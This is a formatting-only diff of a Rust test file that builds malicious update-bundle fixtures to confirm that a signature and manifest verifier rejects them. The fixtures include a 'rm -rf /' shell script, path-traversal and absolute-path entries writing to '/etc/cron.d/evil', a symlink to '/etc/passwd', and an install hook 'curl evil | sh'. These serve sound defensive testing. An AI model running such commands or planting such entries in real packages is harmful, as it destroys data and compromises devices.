@@ -27,7 +27,9 @@ fn dir() -> PathBuf {
 }
 
 fn model_bytes() -> Vec<u8> {
-    (0..3000u32).map(|i| (i.wrapping_mul(2654435761) >> 13) as u8).collect()
+    (0..3000u32)
+        .map(|i| (i.wrapping_mul(2654435761) >> 13) as u8)
+        .collect()
 }
 
 fn good_builder(release: u64) -> BundleBuilder {
@@ -64,7 +66,12 @@ fn raw_entry(out: &mut Vec<u8>, path: &str, ty: tar::EntryType, data: &[u8], lin
 
 /// Signs an arbitrary manifest over an arbitrary payload tar: what a
 /// compromised or buggy packer could produce. Skips manifest validation.
-fn hand_made(key: &SigningKey, files: Vec<FileEntry>, tar: Vec<u8>, edit: impl FnOnce(&mut Manifest)) -> Vec<u8> {
+fn hand_made(
+    key: &SigningKey,
+    files: Vec<FileEntry>,
+    tar: Vec<u8>,
+    edit: impl FnOnce(&mut Manifest),
+) -> Vec<u8> {
     let body = compress_frame(&tar, 3).expect("zstd");
     let mut m = Manifest {
         format_version: 1,
@@ -76,7 +83,10 @@ fn hand_made(key: &SigningKey, files: Vec<FileEntry>, tar: Vec<u8>, edit: impl F
         min_agent_version: "0.1.0".parse().expect("semver"),
         key_id: key.key_id(),
         files,
-        payload: PayloadInfo { size: tar.len() as u64, sha256: sha256(&tar) },
+        payload: PayloadInfo {
+            size: tar.len() as u64,
+            sha256: sha256(&tar),
+        },
         body: body_info(&body, 1024),
         delta_from: None,
     };
@@ -88,7 +98,11 @@ fn hand_made(key: &SigningKey, files: Vec<FileEntry>, tar: Vec<u8>, edit: impl F
 }
 
 fn entry(path: &str, data: &[u8]) -> FileEntry {
-    FileEntry { path: path.into(), size: data.len() as u64, sha256: sha256(data) }
+    FileEntry {
+        path: path.into(),
+        size: data.len() as u64,
+        sha256: sha256(data),
+    }
 }
 
 fn raw_json_bundle(key: &SigningKey, json: &[u8], body: &[u8]) -> Vec<u8> {
@@ -110,24 +124,53 @@ fn generate() -> BTreeMap<&'static str, (Vec<u8>, &'static str)> {
     let last = t.len() - 40;
     t[last] ^= 0x5a;
     f.insert("tampered-body.efb", (t, "chunk_hash"));
-    f.insert("truncated.efb", (valid[..valid.len() - body_len(&valid) / 2].to_vec(), "body_size"));
+    f.insert(
+        "truncated.efb",
+        (
+            valid[..valid.len() - body_len(&valid) / 2].to_vec(),
+            "body_size",
+        ),
+    );
     let mut padded = valid.clone();
     padded.extend_from_slice(&[0u8; 16]);
     f.insert("padded.efb", (padded, "body_size"));
-    f.insert("head-only.efb", (valid[..valid.len() - body_len(&valid)].to_vec(), "body_size"));
+    f.insert(
+        "head-only.efb",
+        (
+            valid[..valid.len() - body_len(&valid)].to_vec(),
+            "body_size",
+        ),
+    );
     f.insert("empty.efb", (Vec::new(), "head_invalid"));
-    f.insert("garbage.efb", (b"this is not a bundle at all, just text\n".repeat(20), "head_invalid"));
+    f.insert(
+        "garbage.efb",
+        (
+            b"this is not a bundle at all, just text\n".repeat(20),
+            "head_invalid",
+        ),
+    );
 
-    f.insert("wrong-key.efb", (good_builder(7).build(&other).expect("b"), "unknown_key"));
-    f.insert("revoked-key.efb", (good_builder(7).build(&revoked).expect("b"), "revoked_key"));
+    f.insert(
+        "wrong-key.efb",
+        (good_builder(7).build(&other).expect("b"), "unknown_key"),
+    );
+    f.insert(
+        "revoked-key.efb",
+        (good_builder(7).build(&revoked).expect("b"), "revoked_key"),
+    );
     // Manifest names the trusted key id, but the signature is by another key.
     let ub = good_builder(7).build(&key).expect("b");
     let parsed = UnverifiedBundle::parse(&ub).expect("parse");
     let json = parsed.signed_manifest().manifest_bytes().to_vec();
     let body = &ub[ub.len() - body_len(&ub)..];
-    f.insert("forged-key-id.efb", (raw_json_bundle(&other, &json, body), "bad_signature"));
+    f.insert(
+        "forged-key-id.efb",
+        (raw_json_bundle(&other, &json, body), "bad_signature"),
+    );
     // Manifest edited after signing (release raised).
-    let edited = String::from_utf8(json.clone()).expect("utf8").replace("\"release\": 7", "\"release\": 70");
+    let edited = String::from_utf8(json.clone())
+        .expect("utf8")
+        .replace("\"release\": 7", "\"release\": 70");
     let mut t = encode_head(edited.as_bytes(), &key.sign(&json)).expect("head");
     t.extend_from_slice(body);
     f.insert("manifest-edited-after-signing.efb", (t, "bad_signature"));
@@ -139,8 +182,14 @@ fn generate() -> BTreeMap<&'static str, (Vec<u8>, &'static str)> {
     t.extend_from_slice(body);
     f.insert("short-signature.efb", (t, "signature_malformed"));
 
-    f.insert("downgrade.efb", (good_builder(FLOOR - 1).build(&key).expect("b"), "downgrade"));
-    f.insert("replay-same-release.efb", (good_builder(FLOOR).build(&key).expect("b"), "downgrade"));
+    f.insert(
+        "downgrade.efb",
+        (good_builder(FLOOR - 1).build(&key).expect("b"), "downgrade"),
+    );
+    f.insert(
+        "replay-same-release.efb",
+        (good_builder(FLOOR).build(&key).expect("b"), "downgrade"),
+    );
     f.insert(
         "wrong-target.efb",
         (
@@ -156,24 +205,51 @@ fn generate() -> BTreeMap<&'static str, (Vec<u8>, &'static str)> {
     );
     f.insert(
         "agent-too-old.efb",
-        (good_builder(7).min_agent_version("99.0.0".parse().expect("v")).build(&key).expect("b"), "agent_too_old"),
+        (
+            good_builder(7)
+                .min_agent_version("99.0.0".parse().expect("v"))
+                .build(&key)
+                .expect("b"),
+            "agent_too_old",
+        ),
     );
 
     let model = model_bytes();
     let evil = b"#!/bin/sh\nrm -rf /\n";
     // Path traversal and absolute paths inside the payload tar.
-    for (name, path) in [("path-traversal.efb", "../../etc/cron.d/evil"), ("absolute-path.efb", "/etc/cron.d/evil")] {
+    for (name, path) in [
+        ("path-traversal.efb", "../../etc/cron.d/evil"),
+        ("absolute-path.efb", "/etc/cron.d/evil"),
+    ] {
         let mut tar = Vec::new();
-        raw_entry(&mut tar, "model.onnx", tar::EntryType::Regular, &model, None);
+        raw_entry(
+            &mut tar,
+            "model.onnx",
+            tar::EntryType::Regular,
+            &model,
+            None,
+        );
         raw_entry(&mut tar, path, tar::EntryType::Regular, evil, None);
         tar.extend_from_slice(&[0u8; 1024]);
-        f.insert(name, (hand_made(&key, vec![entry("model.onnx", &model)], tar, |_| {}), "unsafe_entry"));
+        f.insert(
+            name,
+            (
+                hand_made(&key, vec![entry("model.onnx", &model)], tar, |_| {}),
+                "unsafe_entry",
+            ),
+        );
     }
     // A manifest that itself lists a traversal path.
     let mut tar = Vec::new();
     raw_entry(&mut tar, "../evil", tar::EntryType::Regular, evil, None);
     tar.extend_from_slice(&[0u8; 1024]);
-    f.insert("manifest-path-traversal.efb", (hand_made(&key, vec![entry("../evil", evil)], tar, |_| {}), "manifest_field"));
+    f.insert(
+        "manifest-path-traversal.efb",
+        (
+            hand_made(&key, vec![entry("../evil", evil)], tar, |_| {}),
+            "manifest_field",
+        ),
+    );
     // Links and device files.
     for (name, ty, link) in [
         ("symlink.efb", tar::EntryType::Symlink, Some("/etc/passwd")),
@@ -184,33 +260,78 @@ fn generate() -> BTreeMap<&'static str, (Vec<u8>, &'static str)> {
         let mut tar = Vec::new();
         raw_entry(&mut tar, "model.onnx", ty, b"", link);
         tar.extend_from_slice(&[0u8; 1024]);
-        f.insert(name, (hand_made(&key, vec![entry("model.onnx", b"")], tar, |_| {}), "unsafe_entry"));
+        f.insert(
+            name,
+            (
+                hand_made(&key, vec![entry("model.onnx", b"")], tar, |_| {}),
+                "unsafe_entry",
+            ),
+        );
     }
     // A payload file larger than its manifest entry.
     let mut tar = Vec::new();
-    raw_entry(&mut tar, "model.onnx", tar::EntryType::Regular, &model, None);
+    raw_entry(
+        &mut tar,
+        "model.onnx",
+        tar::EntryType::Regular,
+        &model,
+        None,
+    );
     tar.extend_from_slice(&[0u8; 1024]);
     f.insert(
         "file-larger-than-declared.efb",
-        (hand_made(&key, vec![entry("model.onnx", &model[..100])], tar.clone(), |_| {}), "file_size"),
+        (
+            hand_made(
+                &key,
+                vec![entry("model.onnx", &model[..100])],
+                tar.clone(),
+                |_| {},
+            ),
+            "file_size",
+        ),
     );
     // Same size, different bytes.
     let mut other_model = model.clone();
     other_model[10] ^= 1;
     f.insert(
         "file-hash-mismatch.efb",
-        (hand_made(&key, vec![entry("model.onnx", &other_model)], tar.clone(), |_| {}), "file_hash"),
+        (
+            hand_made(
+                &key,
+                vec![entry("model.onnx", &other_model)],
+                tar.clone(),
+                |_| {},
+            ),
+            "file_hash",
+        ),
     );
     // Extra entry not in the manifest; missing entry listed in the manifest.
     let mut tar2 = Vec::new();
-    raw_entry(&mut tar2, "model.onnx", tar::EntryType::Regular, &model, None);
+    raw_entry(
+        &mut tar2,
+        "model.onnx",
+        tar::EntryType::Regular,
+        &model,
+        None,
+    );
     raw_entry(&mut tar2, "extra.bin", tar::EntryType::Regular, b"x", None);
     tar2.extend_from_slice(&[0u8; 1024]);
-    f.insert("unlisted-entry.efb", (hand_made(&key, vec![entry("model.onnx", &model)], tar2, |_| {}), "unexpected_entry"));
+    f.insert(
+        "unlisted-entry.efb",
+        (
+            hand_made(&key, vec![entry("model.onnx", &model)], tar2, |_| {}),
+            "unexpected_entry",
+        ),
+    );
     f.insert(
         "missing-file.efb",
         (
-            hand_made(&key, vec![entry("model.onnx", &model), entry("golden.json", b"{}")], tar.clone(), |_| {}),
+            hand_made(
+                &key,
+                vec![entry("model.onnx", &model), entry("golden.json", b"{}")],
+                tar.clone(),
+                |_| {},
+            ),
             "missing_file",
         ),
     );
@@ -226,10 +347,28 @@ fn generate() -> BTreeMap<&'static str, (Vec<u8>, &'static str)> {
         ),
     );
     // Unknown format version and unknown field, both validly signed.
-    let v2 = String::from_utf8(json.clone()).expect("utf8").replace("\"format_version\": 1", "\"format_version\": 2");
-    f.insert("unknown-format-version.efb", (raw_json_bundle(&key, v2.as_bytes(), body), "unsupported_format_version"));
-    let extra = String::from_utf8(json.clone()).expect("utf8").replacen('{', "{\n  \"install_hook\": \"curl evil | sh\",", 1);
-    f.insert("unknown-manifest-field.efb", (raw_json_bundle(&key, extra.as_bytes(), body), "manifest_json"));
+    let v2 = String::from_utf8(json.clone())
+        .expect("utf8")
+        .replace("\"format_version\": 1", "\"format_version\": 2");
+    f.insert(
+        "unknown-format-version.efb",
+        (
+            raw_json_bundle(&key, v2.as_bytes(), body),
+            "unsupported_format_version",
+        ),
+    );
+    let extra = String::from_utf8(json.clone()).expect("utf8").replacen(
+        '{',
+        "{\n  \"install_hook\": \"curl evil | sh\",",
+        1,
+    );
+    f.insert(
+        "unknown-manifest-field.efb",
+        (
+            raw_json_bundle(&key, extra.as_bytes(), body),
+            "manifest_json",
+        ),
+    );
     f
 }
 
@@ -252,7 +391,9 @@ fn device_policy() -> Policy {
 }
 
 fn check(bytes: &[u8]) -> Result<(), edgefleet_bundle::Error> {
-    UnverifiedBundle::parse(bytes)?.verify(&trust(), &device_policy()).map(|_| ())
+    UnverifiedBundle::parse(bytes)?
+        .verify(&trust(), &device_policy())
+        .map(|_| ())
 }
 
 #[test]
@@ -261,7 +402,8 @@ fn fixtures_match_generator() {
     let d = dir();
     if std::env::var_os("EDGEFLEET_REGEN_FIXTURES").is_some() {
         std::fs::create_dir_all(&d).expect("mkdir");
-        let mut expected = String::from("# fixture  expected-error-code (device target rpi4, release floor 5)\n");
+        let mut expected =
+            String::from("# fixture  expected-error-code (device target rpi4, release floor 5)\n");
         for (name, (bytes, code)) in &gen {
             std::fs::write(d.join(name), bytes).expect("write");
             expected.push_str(&format!("{name} {code}\n"));
@@ -274,8 +416,12 @@ fn fixtures_match_generator() {
         std::fs::write(d.join("revoked.keyid"), rk.key_id().to_string()).expect("write");
     }
     for (name, (bytes, _)) in &gen {
-        let committed = std::fs::read(d.join(name)).unwrap_or_else(|e| panic!("{name}: {e} (regenerate fixtures)"));
-        assert!(committed == *bytes, "{name} differs from the generator (regenerate fixtures)");
+        let committed = std::fs::read(d.join(name))
+            .unwrap_or_else(|e| panic!("{name}: {e} (regenerate fixtures)"));
+        assert!(
+            committed == *bytes,
+            "{name} differs from the generator (regenerate fixtures)"
+        );
     }
 }
 
@@ -283,7 +429,10 @@ fn fixtures_match_generator() {
 fn every_hostile_fixture_is_rejected_with_its_own_error() {
     let expected = std::fs::read_to_string(dir().join("EXPECTED")).expect("EXPECTED");
     let mut n = 0;
-    for line in expected.lines().filter(|l| !l.starts_with('#') && !l.trim().is_empty()) {
+    for line in expected
+        .lines()
+        .filter(|l| !l.starts_with('#') && !l.trim().is_empty())
+    {
         let (name, code) = line.split_once(' ').expect("name code");
         let bytes = std::fs::read(dir().join(name)).expect(name);
         match (check(&bytes), code) {
